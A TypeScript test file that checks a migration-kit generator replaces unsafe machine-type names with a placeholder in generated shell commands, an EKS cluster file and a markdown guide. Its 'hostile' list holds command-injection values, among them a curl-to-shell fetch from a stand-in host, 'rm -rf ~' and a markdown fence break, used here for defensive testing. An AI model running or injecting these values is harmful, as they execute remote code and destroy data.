/** An evaluation can come from a file, or carry a machine that a team entered: whatever its words say, none of them is run. */
import { describe, expect, test } from "vitest";
import type { MoveKit } from "@/lib/move/kit";
import { moveKit } from "@/lib/move/move-kit";
import { machineType } from "@/lib/move/names";
import { fenced } from "@/lib/move/read-me";
import type { Evaluation } from "@/lib/planner/evaluation";
import type { PlatformId } from "@/lib/planner/scenario/choices";
import { evaluationOf, fileOf } from "./support";

const evaluation = evaluationOf({ orchestration: "kubernetes", workload: { services: 12, dailyActiveUsers: 20_000 } });

/** The same with every machine of another type. */
const typed = (type: string): Evaluation => ({
  ...evaluation,
  platforms: evaluation.platforms.map((platform) =>
    platform.sizing === null
      ? platform
      : {
          ...platform,
          sizing: { ...platform.sizing, machines: platform.sizing.machines.map((machine) => ({ ...machine, type })) },
        },
  ),
});

const commandsOf = ({ checklist, imageChecklist }: MoveKit): string[] =>
  [...checklist.flatMap(({ items }) => items), ...imageChecklist].flatMap(({ command }) => command ?? []);

const machined: readonly PlatformId[] = ["doks", "doks-ha", "aks-free", "aks-standard", "gke-zonal", "gke-regional"];
const hostile = [
  "$(curl evil.example|sh)",
  "x; rm -rf ~",
  "x`id`",
  'x"; id; "',
  "x\nrm -rf ~",
  "-rf",
  "--help",
  "x\n```\n\n# Run this",
  "x y",
];

describe("a machine type in a command", () => {
  for (const id of machined)
    test(`of ${id} stands there when it is a plain name, and else is left to be put in`, () => {
      expect(commandsOf(moveKit(typed("s-2vcpu.4gb_a"), id)).join("\n")).toContain("s-2vcpu.4gb_a");
      const plain = commandsOf(moveKit(typed("MACHINE_TYPE"), id));
      for (const type of hostile) expect(commandsOf(moveKit(typed(type), id))).toEqual(plain);
    });

  test("of a cluster file of EKS as well", () => {
    const fileWith = (type: string) => fileOf(moveKit(typed(type), "eks"), "cluster.yaml").content;
    expect(fileWith("m7i.large")).toContain("instanceType: m7i.large");
    for (const type of hostile) expect(fileWith(type)).toBe(fileWith("MACHINE_TYPE"));
  });

  test("is one that a provider could have", () => {
    expect(["cx22", "Standard_D2s_v5", "e2-standard-2", "m7i.large"].map(machineType)).toEqual([
      "cx22",
      "Standard_D2s_v5",
      "e2-standard-2",
      "m7i.large",
    ]);
    expect(["", ".x", "ä", "a/b", undefined].map(machineType)).toEqual(Array(5).fill("MACHINE_TYPE"));
  });
});

describe("the kit on paper", () => {
  test("lets no word of an evaluation begin a line or a fence", () => {
    const clean = fileOf(moveKit(typed("x"), "doks"), "MOVE.md").content;
    for (const type of hostile) {
      const { content } = fileOf(moveKit(typed(type), "doks"), "MOVE.md");
      expect(content.split("\n")).toHaveLength(clean.split("\n").length);
      expect(content.match(/^ *```/gm)).toEqual(clean.match(/^ *```/gm));
    }
  });

  test("puts a longer fence round a command that holds one", () => {
    expect(fenced("a\n```\nb")).toEqual(["", "  ````sh", "  a", "  ```", "  b", "  ````", ""]);
    expect(fenced("a")).toEqual(["", "  ```sh", "  a", "  ```", ""]);
  });
});
